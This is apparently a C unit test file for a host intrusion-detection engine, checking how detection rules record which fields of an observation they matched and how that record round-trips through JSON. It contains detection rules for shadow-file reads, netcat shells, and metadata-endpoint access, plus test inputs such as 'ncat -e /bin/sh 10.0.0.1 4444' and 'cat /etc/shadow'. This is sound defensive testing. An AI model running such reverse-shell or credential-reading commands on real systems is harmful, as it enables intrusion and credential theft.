// SPDX-License-Identifier: Apache-2.0
/*
 * test_det_matched.c - detect records which parts of an observation a
 * recipe matched (det_recipe_explain, event.h mz_matched): the field, how
 * (exact path, base name, directory, regex, domain list entry, cidr, port),
 * the recipe's own pattern and where in the field the match lies; must-not
 * items and items of an OR group that did not pass are not parts; the
 * record is bounded; the engine puts it on every detection; the detection
 * JSON carries it and reads it back.
 */
#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cjson/cJSON.h>
#include <cmocka.h>

#include "core/event.h"
#include "core/log.h"
#include "detect/det_int.h"

static const char recipes[] = "- kind: shadow_read\n"
                              "  name: shadow_read\n"
                              "  description: t\n"
                              "  mechanism: file_access\n"
                              "  importance: low\n"
                              "  bases:\n"
                              "    - dir: /etc\n"
                              "      base: shadow\n"
                              "- kind: nc_exec\n"
                              "  name: nc_exec\n"
                              "  description: t\n"
                              "  mechanism: execution\n"
                              "  importance: low\n"
                              "  bases:\n"
                              "    - base: nc\n"
                              "    - base: ncat\n"
                              "  arbitrary:\n"
                              "    - how: AND\n"
                              "      which: pertinent\n"
                              "      items:\n"
                              "        - what: args\n"
                              "          which: pertinent\n"
                              "          pattern: \\s-e\\s\n"
                              "        - what: parent_exe\n"
                              "          which: irrelevant\n"
                              "          pattern: ^/usr/sbin/cron$\n"
                              "- kind: tmp_exec\n"
                              "  name: tmp_exec\n"
                              "  description: t\n"
                              "  mechanism: execution\n"
                              "  importance: low\n"
                              "  bases:\n"
                              "    - dir: /tmp\n"
                              "  arbitrary:\n"
                              "    - how: OR\n"
                              "      which: pertinent\n"
                              "      items:\n"
                              "        - what: args\n"
                              "          which: irrelevant\n"
                              "          pattern: ^run$\n"
                              "        - what: comm\n"
                              "          pattern: ^zzz$\n"
                              "        - what: user\n"
                              "          pattern: ^www-data$\n"
                              "- kind: bad_domain\n"
                              "  name: bad_domain\n"
                              "  description: t\n"
                              "  mechanism: network_peers\n"
                              "  importance: low\n"
                              "  remote_domains_type: suffix\n"
                              "  remote_domains: [evil.example]\n"
                              "  remote_ports: [443, 8443]\n"
                              "- kind: metadata\n"
                              "  name: metadata\n"
                              "  description: t\n"
                              "  mechanism: network_peers\n"
                              "  importance: low\n"
                              "  remote_cidrs: [169.254.169.254/32]\n"
                              "- kind: many\n"
                              "  name: many\n"
                              "  description: t\n"
                              "  mechanism: file_access\n"
                              "  importance: low\n"
                              "  bases:\n"
                              "    - dir: /srv\n"
                              "  arbitrary:\n"
                              "    - how: AND\n"
                              "      which: pertinent\n"
                              "      items:\n"
                              "        - {what: args, pattern: a}\n"
                              "        - {what: args, pattern: b}\n"
                              "        - {what: args, pattern: c}\n"
                              "        - {what: args, pattern: d}\n"
                              "        - {what: args, pattern: e}\n"
                              "        - {what: args, pattern: f}\n"
                              "        - {what: args, pattern: g}\n";

static struct det_recipe **rs;
static size_t nrs;

static int setup(void **state)
{
    (void)state;
    struct det_diag diag = {0};
    struct det_load_opts o = {0};
    int rc = det_load_text("t.yaml", recipes, strlen(recipes), &o, &rs, &nrs, &diag);
    for (size_t i = 0; i < diag.n; i++)
        if (diag.is_error[i])
            fprintf(stderr, "%s\n", diag.msgs[i]);
    det_diag_free(&diag);
    return rc;
}

static int teardown(void **state)
{
    (void)state;
    for (size_t i = 0; i < nrs; i++)
        det_recipe_free(rs[i]);
    free(rs);
    return 0;
}

static const struct det_recipe *recipe(const char *id)
{
    for (size_t i = 0; i < nrs; i++)
        if (strcmp(rs[i]->id, id) == 0)
            return rs[i];
    fail_msg("no recipe %s", id);
    return NULL;
}

static void set_proc(struct mz_observation *o, const char *exe, const char *args,
                     const char *parent)
{
    o->proc.exe = mz_strdup(exe);
    o->proc.args = mz_strdup(args);
    o->proc.user = mz_strdup("www-data");
    mz_strlcpy(o->proc.comm, "x", sizeof(o->proc.comm));
    o->proc.ancestry = mz_calloc(1, sizeof(char *));
    o->proc.ancestry[0] = mz_strdup(parent);
    o->proc.n_ancestry = 1;
}

static void test_exact_path(void **state)
{
    (void)state;
    struct mz_observation *o = mz_observation_new(MZ_OBS_FILE);
    struct mz_matched m;
    set_proc(o, "/usr/bin/cat", "cat /etc/shadow", "/usr/bin/bash");
    o->file.path = mz_strdup("/etc/shadow");
    o->file.actions = MZ_FA_OPEN;
    assert_true(det_recipe_explain(recipe("shadow_read"), o, false, &m));
    assert_int_equal(m.n, 1);
    assert_int_equal(m.part[0].field, MZ_MF_PATH);
    assert_int_equal(m.part[0].how, MZ_MH_EXACT);
    assert_string_equal(m.part[0].pattern, "/etc/shadow");
    assert_int_equal(m.part[0].off, 0);
    assert_int_equal(m.part[0].len, strlen("/etc/shadow"));
    /* another file: no match, nothing recorded */
    free(o->file.path);
    o->file.path = mz_strdup("/etc/passwd");
    assert_false(det_recipe_explain(recipe("shadow_read"), o, false, &m));
    assert_int_equal(m.n, 0);
    mz_observation_free(o);
}

static void test_base_and_args(void **state)
{
    (void)state;
    struct mz_observation *o = mz_observation_new(MZ_OBS_EXEC);
    struct mz_matched m;
    set_proc(o, "/tmp/x/ncat", "ncat -e /bin/sh 10.0.0.1 4444", "/usr/bin/bash");
    o->file.path = mz_strdup("/tmp/x/ncat");
    assert_true(det_recipe_explain(recipe("nc_exec"), o, false, &m));
    /* the base that matched (ncat, not nc), the args pattern; the parent
     * item is "irrelevant" (must not match) and matched nothing: no part */
    assert_int_equal(m.n, 2);
    assert_int_equal(m.part[0].field, MZ_MF_PATH);
    assert_int_equal(m.part[0].how, MZ_MH_BASE);
    assert_string_equal(m.part[0].pattern, "ncat");
    assert_int_equal(m.part[0].off, strlen("/tmp/x/"));
    assert_int_equal(m.part[0].len, 4);
    assert_int_equal(m.part[1].field, MZ_MF_ARGS);
    assert_int_equal(m.part[1].how, MZ_MH_REGEX);
    assert_string_equal(m.part[1].pattern, "\\s-e\\s");
    assert_int_equal(m.part[1].off, 4); /* " -e " */
    assert_int_equal(m.part[1].len, 4);
    mz_observation_free(o);
}

static void test_or_group(void **state)
{
    (void)state;
    struct mz_observation *o = mz_observation_new(MZ_OBS_EXEC);
    struct mz_matched m;
    set_proc(o, "/tmp/run", "run", "/usr/bin/bash");
    o->file.path = mz_strdup("/tmp/run");
    assert_true(det_recipe_explain(recipe("tmp_exec"), o, false, &m));
    /* the directory, then the OR item that passed (user): not the
     * must-not args item whose pattern matched (it did not pass), not comm */
    assert_int_equal(m.n, 2);
    assert_int_equal(m.part[0].how, MZ_MH_DIR);
    assert_string_equal(m.part[0].pattern, "/tmp/");
    assert_int_equal(m.part[1].field, MZ_MF_USER);
    assert_string_equal(m.part[1].pattern, "^www-data$");
    mz_observation_free(o);
}

static void test_domain_port_cidr(void **state)
{
    (void)state;
    struct mz_observation *o = mz_observation_new(MZ_OBS_FLOW);
    struct mz_matched m;
    set_proc(o, "/usr/bin/curl", "curl x", "/usr/bin/bash");
    o->flow.domain = mz_strdup("Cdn.Evil.Example");
    o->flow.remote_port = 8443;
    o->flow.proto = 6;
    o->flow.family = 2;
    mz_strlcpy(o->flow.remote_addr, "169.254.169.254", sizeof(o->flow.remote_addr));
    assert_true(det_recipe_explain(recipe("bad_domain"), o, false, &m));
    assert_int_equal(m.n, 2);
    assert_int_equal(m.part[0].field, MZ_MF_REMOTE_PORT);
    assert_string_equal(m.part[0].pattern, "8443");
    assert_int_equal(m.part[1].field, MZ_MF_DOMAIN);
    assert_int_equal(m.part[1].how, MZ_MH_LIST);
    assert_string_equal(m.part[1].pattern, "evil.example"); /* the list's entry */
    assert_int_equal(m.part[1].off, 4);
    assert_int_equal(m.part[1].len, strlen("evil.example"));
    assert_true(det_recipe_explain(recipe("metadata"), o, false, &m));
    assert_int_equal(m.n, 1);
    assert_int_equal(m.part[0].how, MZ_MH_CIDR);
    assert_string_equal(m.part[0].pattern, "169.254.169.254/32");
    mz_observation_free(o);
}

/* A CNAME chain's target on a list matches through flow.domain_names; the
 * part names that field and the entry's index; a name on no list does
 * not match. */
static void test_domain_names(void **state)
{
    (void)state;
    struct mz_observation *o = mz_observation_new(MZ_OBS_FLOW);
    struct mz_matched m;
    set_proc(o, "/usr/bin/curl", "curl x", "/usr/bin/bash");
    o->flow.domain = mz_strdup("alias.example.org");
    o->flow.domain_names[0] = mz_strdup("alias.example.org");
    o->flow.domain_names[1] = mz_strdup("mid.example.org");
    o->flow.domain_names[2] = mz_strdup("cdn.evil.example");
    o->flow.n_domain_names = 3;
    o->flow.remote_port = 443;
    o->flow.proto = 6;
    o->flow.family = 2;
    mz_strlcpy(o->flow.remote_addr, "192.0.2.1", sizeof(o->flow.remote_addr));
    assert_true(det_recipe_matches(recipe("bad_domain"), o, false));
    assert_true(det_recipe_explain(recipe("bad_domain"), o, false, &m));
    assert_int_equal(m.n, 2);
    assert_int_equal(m.part[1].field, MZ_MF_DOMAIN_NAMES);
    assert_int_equal(m.part[1].index, 2);
    assert_int_equal(m.part[1].how, MZ_MH_LIST);
    assert_string_equal(m.part[1].pattern, "evil.example");
    assert_int_equal(m.part[1].off, 4);
    assert_int_equal(m.part[1].len, strlen("evil.example"));
    assert_string_equal(mz_match_field_name(MZ_MF_DOMAIN_NAMES), "domain_names");
    free(o->flow.domain_names[2]);
    o->flow.domain_names[2] = mz_strdup("cdn.good.example");
    assert_false(det_recipe_matches(recipe("bad_domain"), o, false));
    assert_false(det_recipe_explain(recipe("bad_domain"), o, false, &m));
    mz_observation_free(o);
}

static void test_bounded(void **state)
{
    (void)state;
    struct mz_observation *o = mz_observation_new(MZ_OBS_FILE);
    struct mz_matched m;
    set_proc(o, "/usr/bin/x", "abcdefg", "/usr/bin/bash");
    o->file.path = mz_strdup("/srv/data");
    o->file.actions = MZ_FA_OPEN;
    assert_true(det_recipe_explain(recipe("many"), o, false, &m));
    assert_int_equal(m.n, MZ_MATCHED_MAX);
    assert_true(m.more);
    mz_observation_free(o);
}

static void test_json_round_trip(void **state)
{
    (void)state;
    struct mz_observation *o = mz_observation_new(MZ_OBS_EXEC);
    struct mz_recipe_ref ref = {.id = "nc_exec", .importance = MZ_IMP_LOW};
    set_proc(o, "/tmp/x/ncat", "ncat -e /bin/sh", "/usr/bin/bash");
    o->file.path = mz_strdup("/tmp/x/ncat");
    o->first_ns = o->last_ns = 1700000000000000000ull;
    struct mz_detection *d = mz_detection_new(o, &ref);
    mz_observation_free(o);
    assert_true(det_recipe_explain(recipe("nc_exec"), &d->obs, false, &d->matched));
    struct mz_buf b;
    mz_buf_init(&b, MZ_JSON_MAX);
    assert_int_equal(mz_detection_json(d, &b), 0);
    assert_non_null(strstr(b.data, "\"matched\":[{\"field\":\"path\",\"how\":\"base\","
                                   "\"pattern\":\"ncat\",\"offset\":7,\"length\":4}"));
    cJSON *j = cJSON_ParseWithLength(b.data, b.len);
    struct mz_detection back;
    char err[256];
    assert_int_equal(mz_detection_from_json(j, &back, err, sizeof(err)), 0);
    assert_memory_equal(&back.matched, &d->matched, sizeof(d->matched));
    mz_recipe_ref_clear(&back.recipe);
    mz_observation_clear(&back.obs);
    /* a bad entry is named */
    cJSON *m = cJSON_GetObjectItemCaseSensitive(j, "matched");
    cJSON_ReplaceItemInObject(cJSON_GetArrayItem(m, 0), "how", cJSON_CreateString("guess"));
    assert_int_equal(mz_detection_from_json(j, &back, err, sizeof(err)), -EINVAL);
    assert_non_null(strstr(err, "matched[0].how"));
    cJSON_Delete(j);
    mz_buf_free(&b);
    mz_detection_free(d);
}

/* A pattern is cut at a character boundary, never inside one, and
 * invalid bytes do not reach the JSON. */
static void test_pattern_cut(void **state)
{
    (void)state;
    struct mz_match_part p;
    char s[128];
    memset(s, 'a', 46);
    memcpy(s + 46, "\xc3\xa9\xc3\xa9", 5); /* "éé" from byte 46: the first does not fit */
    mz_match_part_set_pattern(&p, s);
    assert_int_equal(strlen(p.pattern), 46);
    mz_match_part_set_pattern(&p, "ab\xff"
                                  "cd\xc3");
    assert_string_equal(p.pattern, "ab?cd?");
    mz_match_part_set_pattern(&p, "/etc/sh\xc3\xa9"
                                  "dow");
    assert_string_equal(p.pattern, "/etc/sh\xc3\xa9"
                                   "dow");
}

int main(void)
{
    mz_log_set_level(MZ_LOG_ERROR);
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_exact_path),  cmocka_unit_test(test_base_and_args),
        cmocka_unit_test(test_or_group),    cmocka_unit_test(test_domain_port_cidr),
        cmocka_unit_test(test_bounded),     cmocka_unit_test(test_json_round_trip),
        cmocka_unit_test(test_pattern_cut), cmocka_unit_test(test_domain_names),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
